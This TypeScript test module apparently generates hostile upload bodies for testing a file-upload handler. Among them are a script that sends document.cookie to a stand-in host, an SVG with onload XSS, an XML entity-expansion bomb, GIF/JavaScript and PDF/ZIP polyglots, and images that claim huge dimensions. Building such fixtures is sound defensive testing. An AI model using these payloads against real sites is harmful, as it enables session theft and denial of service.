/** Bodies of uploads that are no good: pictures and pages that run, are two things at once, claim too much or are cut short. */
import { crc32 } from 'node:zlib'
import { pdf } from '../rig/files.ts'
import type { Random } from '../world/random.ts'
import { mutatedBytes, oddText, randomBytes } from './oddities.ts'

const script = '<script>fetch("https://elsewhere.example/?"+document.cookie)</script>'

const chunk = (type: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.byteLength)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A picture that says it is so large, with next to no points. */
const png = (side: number): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  const points = Buffer.from('789c6360000000020001', 'hex')
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', points),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** One point, which is whole. */
const gif = Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64')

const archive = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])

const makers: readonly ((random: Random) => string | Uint8Array)[] = [
  () => `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  () =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'x'.repeat(1_000)}">]><svg>${'&a;'.repeat(1_000)}</svg>`,
  () => `<!doctype html>${script}`,
  () => Buffer.concat([pdf(script)]),
  () => Buffer.concat([pdf(), Buffer.from(script)]),
  () => Buffer.concat([pdf(), archive]),
  () => Buffer.concat([Buffer.from(script), pdf()]),
  () => '%PDF-1.7\n%%EOF',
  (random) => `%PDF-1.7\n${'startxref\n'.repeat(random.between(1, 20_000))}%%EOF`,
  () => Buffer.concat([gif, archive]),
  () => Buffer.concat([gif, Buffer.from(`*/=1;${script}`)]),
  () => `GIF89a/*${'x'.repeat(100)}*/=1;alert(1)`,
  (random) => png(random.pick([1, 16_001, 100_000, 0x7fff_ffff])),
  () => Buffer.concat([Buffer.from('ffd8ffe0ffff', 'hex'), Buffer.alloc(70_000)]),
  () => 'RIFF\x04\x00\x00\x00WEBPVP8X',
  (random) => mutatedBytes(pdf(), random),
  (random) => mutatedBytes(gif, random),
  (random) => mutatedBytes(png(2), random),
  (random) => randomBytes(random.between(1, 3_000), random),
  (random) => oddText(random.between(1, 300), random),
]

export const hostileFile = (random: Random): Buffer => Buffer.from(random.pick(makers)(random))

/** What the room would take: a file like any other, each other bytes. */
export const harmlessFile = (random: Random): Buffer =>
  random.chance(0.5) ? gif : pdf(random.secret(), random.pick([0, 1_000, 300_000]))
